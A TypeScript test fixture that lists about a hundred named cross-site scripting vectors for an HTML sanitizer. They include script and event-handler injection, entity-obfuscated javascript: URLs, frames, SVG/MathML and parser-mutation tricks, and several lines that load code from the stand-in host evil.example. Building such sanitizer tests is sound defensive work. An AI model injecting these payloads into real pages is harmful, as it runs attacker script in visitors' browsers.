/**
 * Hostile markup for the sanitizer tests: each vector is a piece of HTML
 * that, inserted into a page as it is, runs script, loads a frame, submits
 * a form, changes the page's base or styles, or hides one of these from a
 * naive filter (entities, whitespace, case, foreign content, mutation).
 * Shared so that a browser test can run the same list.
 */
export interface XssVector {
  readonly name: string
  readonly html: string
}

const v = (name: string, html: string): XssVector => ({ name, html })

export const XSS_VECTORS: readonly XssVector[] = [
  // Script elements.
  v('script tag', '<script>alert(1)</script>'),
  v('script src', '<script src="https://evil.example/x.js"></script>'),
  v('script upper case', '<SCRIPT>alert(1)</SCRIPT>'),
  v('script in attribute-looking text', '<scr<script>ipt>alert(1)</script>'),
  v('script with type module', '<script type="module">import("//evil.example")</script>'),
  // Event handlers.
  v('img onerror', '<img src=x onerror=alert(1)>'),
  v('img onerror upper case', '<IMG SRC=x ONERROR="alert(1)">'),
  v('img onerror no quotes slash', '<img/src=x/onerror=alert(1)>'),
  v('body onload', '<body onload=alert(1)>'),
  v('div onmouseover', '<div onmouseover="alert(1)">hover text</div>'),
  v('a onclick', '<a href="https://example.com/" onclick="alert(1)">click</a>'),
  v('p onfocus autofocus', '<p tabindex=1 onfocus=alert(1) autofocus>focus</p>'),
  v('details ontoggle', '<details open ontoggle=alert(1)><summary>s</summary>d</details>'),
  v('video onerror', '<video src=x onerror=alert(1)></video>'),
  v('audio onerror', '<audio src=x onerror=alert(1)></audio>'),
  v('marquee onstart', '<marquee onstart=alert(1)>m</marquee>'),
  v('input onfocus', '<input autofocus onfocus=alert(1)>'),
  v('select onfocus', '<select autofocus onfocus=alert(1)><option>o</option></select>'),
  v('textarea onfocus', '<textarea autofocus onfocus=alert(1)>t</textarea>'),
  v(
    'table background onload',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  ),
  // javascript: and friends in links.
  v('a javascript', '<a href="javascript:alert(1)">link</a>'),
  v('a javascript upper case', '<a href="JAVASCRIPT:alert(1)">link</a>'),
  v('a javascript mixed case', '<a href="JaVaScRiPt:alert(1)">link</a>'),
  v('a javascript decimal entity', '<a href="&#106;avascript:alert(1)">link</a>'),
  v(
    'a javascript all decimal entities',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">link</a>',
  ),
  v('a javascript hex entity', '<a href="&#x6A;avascript:alert(1)">link</a>'),
  v('a javascript padded entity', '<a href="&#0000106avascript:alert(1)">link</a>'),
  v('a javascript tab entity', '<a href="java&#x09;script:alert(1)">link</a>'),
  v('a javascript newline entity', '<a href="java&#x0A;script:alert(1)">link</a>'),
  v('a javascript carriage return', '<a href="java&#13;script:alert(1)">link</a>'),
  v('a javascript literal tab', '<a href="java\tscript:alert(1)">link</a>'),
  v('a javascript leading spaces', '<a href="  javascript:alert(1)">link</a>'),
  v('a javascript leading control', '<a href="&#1;javascript:alert(1)">link</a>'),
  v('a javascript colon entity', '<a href="javascript&colon;alert(1)">link</a>'),
  v('a javascript unquoted', '<a href=javascript:alert(1)>link</a>'),
  v('a vbscript', '<a href="vbscript:msgbox(1)">link</a>'),
  v('a vbscript upper case', '<a href="VBScript:msgbox(1)">link</a>'),
  v('a data html', '<a href="data:text/html,<script>alert(1)</script>">link</a>'),
  v(
    'a data html base64',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
  ),
  v('a data upper case', '<a href="DATA:text/html,<script>alert(1)</script>">link</a>'),
  v(
    'area javascript',
    '<map name=m><area href="javascript:alert(1)" shape=rect coords=0,0,9,9></map>',
  ),
  // URLs in other attributes.
  v('img src javascript', '<img src="javascript:alert(1)">'),
  v('img src data svg', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
  v('img srcset javascript', '<img srcset="javascript:alert(1) 1x, https://example.com/a.png 2x">'),
  v('img srcset entity', '<img srcset="&#106;avascript:alert(1) 1x">'),
  v('img lowsrc', '<img lowsrc="javascript:alert(1)" src="https://example.com/a.png">'),
  v('img data-src javascript', '<img data-src="javascript:alert(1)">'),
  v(
    'video poster javascript',
    '<video poster="javascript:alert(1)" src="https://example.com/v.mp4"></video>',
  ),
  v('source src javascript', '<video><source src="javascript:alert(1)"></video>'),
  v(
    'blockquote cite javascript',
    '<blockquote cite="javascript:alert(1)">quoted words</blockquote>',
  ),
  v('form action javascript', '<form action="javascript:alert(1)"><button>go</button></form>'),
  v('button formaction', '<button formaction="javascript:alert(1)">go</button>'),
  v('input formaction', '<form><input type=submit formaction="javascript:alert(1)"></form>'),
  v('isindex action', '<isindex action="javascript:alert(1)" type=image>'),
  // Frames, objects, embeds.
  v('iframe javascript', '<iframe src="javascript:alert(1)"></iframe>'),
  v('iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  v('iframe srcdoc entities', '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>'),
  v('frameset', '<frameset><frame src="javascript:alert(1)"></frameset>'),
  v('object data', '<object data="javascript:alert(1)"></object>'),
  v('object data html', '<object data="data:text/html,<script>alert(1)</script>"></object>'),
  v('embed src', '<embed src="javascript:alert(1)">'),
  v('embed swf', '<embed src="https://evil.example/x.swf" type="application/x-shockwave-flash">'),
  v('applet', '<applet code="Evil.class"></applet>'),
  // Document-level elements.
  v('base href', '<base href="javascript:alert(1)//">'),
  v('base href remote', '<base href="https://evil.example/">'),
  v('meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
  v(
    'meta refresh data',
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">',
  ),
  v('link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'),
  v('link import', '<link rel="import" href="https://evil.example/x.html">'),
  v('template', '<template><img src=x onerror=alert(1)></template>'),
  // Styles.
  v('style element', '<style>body{background:url("javascript:alert(1)")}</style>'),
  v('style import', '<style>@import "https://evil.example/x.css";</style>'),
  v('style attribute expression', '<p style="width: expression(alert(1))">styled</p>'),
  v('style attribute url', '<p style="background:url(javascript:alert(1))">styled</p>'),
  v('style attribute behavior', '<p style="behavior: url(x.htc)">styled</p>'),
  // SVG and MathML.
  v('svg onload', '<svg onload=alert(1)></svg>'),
  v('svg script', '<svg><script>alert(1)</script></svg>'),
  v('svg a xlink', '<svg><a xlink:href="javascript:alert(1)"><text x=1 y=1>x</text></a></svg>'),
  v('svg animate', '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>'),
  v(
    'svg set href',
    '<svg><a><set attributeName=href to="javascript:alert(1)"/><text>t</text></a></svg>',
  ),
  v('svg foreignObject', '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>'),
  v('svg style', '<svg><style><img src=x onerror=alert(1)></style></svg>'),
  v('math href', '<math href="javascript:alert(1)">m</math>'),
  v(
    'math mglyph style',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  ),
  v(
    'math maction',
    '<math><maction actiontype="statusline#https://x" xlink:href="javascript:alert(1)">m</maction></math>',
  ),
  // Mutation and parser tricks.
  v(
    'noscript mutation',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  ),
  v(
    'noscript style mutation',
    '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>',
  ),
  v('comment breakout', '<!--<img src="--><img src=x onerror=alert(1)//">'),
  v('cdata in html', '<![CDATA[<img src=x onerror=alert(1)>]]>'),
  v('title breakout', '<title><img src=x onerror=alert(1)></title>'),
  v('textarea breakout', '<textarea><img src=x onerror=alert(1)></textarea>'),
  v('xmp breakout', '<xmp><img src=x onerror=alert(1)></xmp>'),
  v('plaintext', '<plaintext><img src=x onerror=alert(1)>'),
  v('attribute quote breakout', '<p title="x&quot; onmouseover=&quot;alert(1)">quoted</p>'),
  v('unclosed attribute', '<img src="x" alt="y onerror=alert(1)//'),
  v('double open tag', '<<img src=x onerror=alert(1)//>'),
  v(
    'id clobbering',
    '<a id="location" href="https://example.com/">clobber</a><form name="cookie"></form>',
  ),
]
